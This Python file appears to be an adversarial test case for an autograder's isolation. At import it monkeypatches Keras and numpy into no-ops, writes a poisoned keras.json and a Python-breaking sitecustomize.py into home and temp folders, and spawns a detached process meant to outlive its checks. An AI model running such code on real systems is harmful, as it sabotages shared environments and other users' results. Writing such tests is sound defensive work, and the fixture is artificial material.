"""Attack: leave state behind for the next student graded from the same zygote.

At import it changes every process-wide thing it can reach in the worker — Keras's float
type and Adam, numpy's seeding and sums, os.environ, the temporary folder, Keras's home
(a keras.json asking for float16, a sitecustomize.py that breaks Python), /dev/shm — and
starts a child that outlives its checks. Its answers are the reference's.
Expected: all of it dies with this worker; the next student's grade is what it is alone.
"""

import os
import subprocess
import sys
import tempfile
from pathlib import Path

import keras
import numpy as np

keras.config.set_floatx("float16")
keras.optimizers.Adam.apply_gradients = lambda self, *a, **k: None
np.random.seed = lambda *a, **k: None
np.sum = lambda *a, **k: 0.0
os.environ["TF_DETERMINISTIC_OPS"] = "0"
os.environ["KERAS_BACKEND"] = "jax"
POISON_JSON = '{"floatx": "float16", "epsilon": 1.0, "backend": "jax"}'
POISON_SITE = "raise SystemExit('left behind by the student before you')\n"
homes = {
    tempfile.gettempdir(),
    os.path.expanduser("~"),
    keras.src.backend.config.keras_home(),
    "/dev/shm",
    "/tmp",
}
for folder in homes:
    for name, text in (("keras.json", POISON_JSON), ("sitecustomize.py", POISON_SITE)):
        try:
            Path(folder).mkdir(parents=True, exist_ok=True)
            (Path(folder) / name).write_text(text)
        except OSError:
            pass
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)"], start_new_session=True)


def loss_fn(x, coefficients=(1.0, -10.0, 25.0)):
    a, b, c = coefficients
    return abs(a * x**2 + b * x + c)


def solve(coefficients=(1.0, -10.0, 25.0), *, learning_rate=0.01, iterations=10_000, start=0.0):
    return float(start)
